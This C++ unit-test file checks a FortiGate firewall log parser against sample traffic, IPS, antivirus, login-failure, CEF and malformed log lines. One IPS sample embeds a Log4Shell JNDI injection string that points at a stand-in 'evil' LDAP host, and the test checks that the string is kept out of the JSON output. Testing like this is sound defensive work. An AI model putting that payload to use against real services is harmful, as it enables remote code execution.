#include <gtest/gtest.h>

#include "core/ecs_json.h"
#include "parse/formats/formats.h"
#include "support/format_test.h"

namespace cyberalarm::parse {
namespace {

test::ParsedLine run_fg(std::string_view line) {
    return test::parse_with(formats::fortigate(), line);
}

TEST(Fortigate, TrafficForwardClose) {
    auto p = run_fg(
        "<189>date=2024-05-01 time=10:00:00 devname=\"fw-hq\" devid=\"FG100FTK00000001\" "
        "eventtime=1714550400123456789 tz=\"+0200\" logid=\"0000000013\" type=\"traffic\" "
        "subtype=\"forward\" level=\"notice\" vd=\"root\" srcip=10.0.0.5 srcport=51000 "
        "srcintf=\"port1\" dstip=198.51.100.7 dstport=443 dstintf=\"wan1\" proto=6 "
        "action=\"close\" policyid=12 policyname=\"LAN to WAN\" service=\"HTTPS\" duration=42 "
        "sentbyte=1200 rcvdbyte=5400 sentpkt=10 rcvdpkt=12");
    ASSERT_TRUE(p.result) << p.result.error().to_string();
    EXPECT_EQ(*p.result, Disposition::kEvent);
    EXPECT_GE(p.confidence, 80);
    const auto& e = p.event;
    EXPECT_EQ(e.action, core::Action::kAllow);  // a closed session was allowed
    EXPECT_EQ(e.category, core::Category::kFirewall);
    EXPECT_EQ(e.transport, core::Transport::kTcp);
    EXPECT_EQ(e.src_ip.to_string(), "10.0.0.5");
    EXPECT_EQ(e.dst_port, 443);
    EXPECT_EQ(e.src_bytes, 1200u);
    EXPECT_EQ(e.dst_packets, 12u);
    EXPECT_EQ(e.duration_ns, 42 * core::kNanosPerSecond);
    EXPECT_EQ(e.rule_id, "12");
    EXPECT_EQ(e.rule_name, "LAN to WAN");
    EXPECT_EQ(e.observer_name, "fw-hq");
    EXPECT_EQ(e.observer_serial, "FG100FTK00000001");
    EXPECT_EQ(e.event_code, "0000000013");
    EXPECT_EQ(e.ingress_interface, "port1");
    EXPECT_EQ(e.app_protocol, "https");
    EXPECT_EQ(core::format_iso8601(e.time_ns), "2024-05-01T08:00:00.123456789Z");
}

TEST(Fortigate, WallClockWithTzWinsOverInconsistentEventtime) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" eventtime=1700000000 tz=\"-0500\" "
        "logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=10.0.0.5 "
        "dstip=198.51.100.7 proto=17 action=\"deny\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(core::format_iso8601(p.event.time_ns), "2024-05-01T15:00:00.000Z");
    EXPECT_EQ(p.event.action, core::Action::kDeny);
    EXPECT_EQ(p.event.transport, core::Transport::kUdp);
}

TEST(Fortigate, CsvLayout) {
    auto p = run_fg(
        "date=2024-05-01,time=10:00:00,logid=\"0000000013\",type=\"traffic\","
        "subtype=\"forward\",srcip=192.0.2.1,srcport=1000,dstip=198.51.100.2,dstport=22,"
        "proto=6,action=\"timeout\",policyid=3,sentbyte=10,rcvdbyte=0");
    ASSERT_TRUE(p.result) << p.result.error().to_string();
    EXPECT_EQ(p.event.dst_port, 22);
    EXPECT_EQ(p.event.action, core::Action::kAllow);
    EXPECT_EQ(p.event.dst_bytes, 0u);
    EXPECT_TRUE(p.event.has(core::Event::kDstBytes));
    EXPECT_EQ(core::format_iso8601(p.event.time_ns), "2024-05-01T10:00:00.000Z");
}

TEST(Fortigate, IpsDetectedIsAlertWithSignatureName) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devname=\"fw\" devid=\"FG1\" logid=\"0419016384\" "
        "type=\"utm\" subtype=\"ips\" eventtype=\"signature\" level=\"alert\" "
        "severity=\"critical\" srcip=203.0.113.9 srcport=40000 dstip=10.0.0.8 dstport=80 "
        "proto=6 action=\"detected\" policyid=7 attack=\"Apache.Log4j.Error.Log.Remote.Code."
        "Execution\" attackid=51006 url=\"/?x=${jndi:ldap://evil}\" msg=\"web_app3: x\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(p.event.action, core::Action::kAlert);
    EXPECT_EQ(p.event.category, core::Category::kIds);
    EXPECT_EQ(p.event.severity, core::Severity::kCritical);
    EXPECT_EQ(p.event.rule_name, "Apache.Log4j.Error.Log.Remote.Code.Execution");
    EXPECT_EQ(core::to_ecs_json(p.event).find("jndi"), std::string::npos);
}

TEST(Fortigate, VirusBlockedIsAv) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" logid=\"0211008192\" type=\"utm\" "
        "subtype=\"virus\" srcip=198.51.100.3 dstip=10.0.0.2 srcport=80 dstport=50000 proto=6 "
        "action=\"blocked\" virus=\"EICAR_TEST_FILE\" filename=\"eicar.com\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(p.event.category, core::Category::kAv);
    EXPECT_EQ(p.event.action, core::Action::kDeny);
    EXPECT_EQ(p.event.rule_name, "EICAR_TEST_FILE");
    EXPECT_EQ(core::to_ecs_json(p.event).find("eicar.com"), std::string::npos);
}

TEST(Fortigate, AdminLoginFailureIsAuthAndHashesUser) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" logid=\"0100032002\" type=\"event\" "
        "subtype=\"system\" level=\"alert\" logdesc=\"Admin login failed\" user=\"mallory\" "
        "ui=\"https(203.0.113.50)\" action=\"login\" status=\"failed\" reason=\"passwd_invalid\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(p.event.category, core::Category::kAuth);
    EXPECT_EQ(p.event.outcome, core::Outcome::kFailure);
    EXPECT_EQ(p.event.src_ip.to_string(), "203.0.113.50");
    EXPECT_FALSE(p.event.user_hash.empty());
    EXPECT_EQ(core::to_ecs_json(p.event).find("mallory"), std::string::npos);
}

TEST(Fortigate, SslVpnLoginFailFromRemip) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" logid=\"0101039426\" type=\"event\" "
        "subtype=\"vpn\" logdesc=\"SSL VPN login fail\" action=\"ssl-login-fail\" "
        "tunneltype=\"ssl-web\" remip=2001:db8::66 user=\"bob\" reason=\"sslvpn_login_unknown_user\" "
        "msg=\"SSL user failed to logged in\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(p.event.category, core::Category::kAuth);
    EXPECT_EQ(p.event.outcome, core::Outcome::kFailure);
    EXPECT_TRUE(p.event.src_ip.is_v6());
}

TEST(Fortigate, Ipv6TrafficAndIcmpTypeFromService) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" logid=\"0001000014\" type=\"traffic\" "
        "subtype=\"local\" srcip=fe80::1 dstip=ff02::1 proto=58 action=\"accept\" "
        "service=\"icmp6/143/0\"");
    ASSERT_TRUE(p.result);
    EXPECT_TRUE(p.event.dst_ip.is_v6());
    EXPECT_EQ(p.event.transport, core::Transport::kIcmpv6);
    EXPECT_EQ(p.event.icmp_type, 143);
    EXPECT_TRUE(p.event.app_protocol.empty());
}

TEST(Fortigate, CefTrafficWithVendorPrefixes) {
    auto p = run_fg(
        "CEF:0|Fortinet|Fortigate|v7.2.8|00013|traffic:forward close|3|deviceExternalId=FG1 "
        "FTNTFGTlogid=0000000013 cat=traffic:forward FTNTFGTsubtype=forward "
        "FTNTFGTeventtime=1714557600 FTNTFGTtz=+0200 src=10.0.0.5 spt=51000 "
        "deviceInboundInterface=port 1 dst=198.51.100.7 dpt=443 deviceOutboundInterface=wan1 "
        "proto=6 act=close FTNTFGTpolicyid=12 FTNTFGTpolicyname=LAN out=100 in=200 "
        "FTNTFGTsentpkt=1 FTNTFGTrcvdpkt=2");
    ASSERT_TRUE(p.result) << p.result.error().to_string();
    EXPECT_GE(p.confidence, 90);
    const auto& e = p.event;
    EXPECT_EQ(e.ingress_interface, "port 1");
    EXPECT_EQ(e.src_bytes, 100u);
    EXPECT_EQ(e.dst_bytes, 200u);
    EXPECT_EQ(e.rule_id, "12");
    EXPECT_EQ(e.action, core::Action::kAllow);
    EXPECT_EQ(e.observer_serial, "FG1");
    EXPECT_EQ(core::format_iso8601(e.time_ns), "2024-05-01T10:00:00.000Z");
}

TEST(Fortigate, ConfigNoticeWithoutAddressIsIgnored) {
    auto p = run_fg(
        "date=2024-05-01 time=10:00:00 devid=\"FG1\" logid=\"0100044546\" type=\"event\" "
        "subtype=\"system\" logdesc=\"Attribute configured\" user=\"admin\" ui=\"ha_daemon\" "
        "action=\"Edit\" cfgpath=\"system.settings\"");
    ASSERT_TRUE(p.result);
    EXPECT_EQ(*p.result, Disposition::kIgnored);
}

TEST(Fortigate, MalformedAndTruncated) {
    auto a = run_fg("CEF:0|Fortinet|Fortigate|v7.2");
    ASSERT_FALSE(a.result);
    EXPECT_EQ(a.result.error().field(), "cef");
    auto b = run_fg("hello world");
    ASSERT_FALSE(b.result);
    EXPECT_EQ(b.confidence, 0);
    auto c = run_fg("date=2024-05-01 time=10:00:00 foo=bar");
    ASSERT_FALSE(c.result);
    EXPECT_EQ(c.result.error().field(), "logid");
    // Truncated mid-value: still an event with what is there, no over-read.
    auto d = run_fg("logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=10.0.0.1 srcport=\"");
    ASSERT_TRUE(d.result);
    EXPECT_FALSE(d.event.has(core::Event::kSrcPort));
}

}  // namespace
}  // namespace cyberalarm::parse
